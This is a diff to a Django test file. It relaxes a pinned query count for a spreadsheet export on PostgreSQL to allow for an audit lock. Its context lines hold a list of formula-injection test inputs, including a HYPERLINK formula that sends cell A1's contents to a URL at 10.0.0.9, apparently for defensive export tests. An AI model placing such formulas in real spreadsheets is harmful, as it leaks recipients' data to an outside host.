@@ -5,6 +5,7 @@ from datetime import date
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
 from django.urls import reverse
 from openpyxl import load_workbook
 
@@ -13,6 +14,8 @@ from stations.models import AuditEntry
 from volunteers.models import Volunteer
 from volunteers.tests.factories import VolunteerFactory, VolunteerRoleFactory
 
+# stations.audit takes an advisory lock (one more query) on PostgreSQL.
+PG_AUDIT_LOCK = int(connection.vendor == "postgresql")
 FULL_ID = "11010519491231002X"
 HOSTILE = ['=HYPERLINK("http://10.0.0.9/?"&A1,"x")', "+1", "-1", "@SUM(1+1)"]
 
@@ -90,7 +93,7 @@ def test_export_query_count_is_pinned(world, client_as, django_assert_max_num_qu
             ]
         )
     client = client_as(world.user("county"))
-    with django_assert_max_num_queries(12):
+    with django_assert_max_num_queries(12 + PG_AUDIT_LOCK):
         response = export(client)
     assert response.status_code == 200
 
